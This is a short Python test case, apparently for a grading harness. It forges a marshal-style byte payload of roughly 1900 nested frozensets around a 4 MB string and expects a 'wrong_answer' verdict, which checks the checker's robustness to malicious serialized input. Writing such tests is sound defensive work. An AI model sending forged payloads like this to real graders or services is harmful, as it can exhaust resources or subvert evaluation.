# Reply with frozen sets in frozen sets around a text of 4 MB.
# verdict: wrong_answer
# problem: collections
# rules: values unordered
def solve(items):
    length = 4_000_000
    forge_data(b'>\1\0\0\0' * 1900 + b'u' + length.to_bytes(4, 'little') + b'x' * length)
    return -1
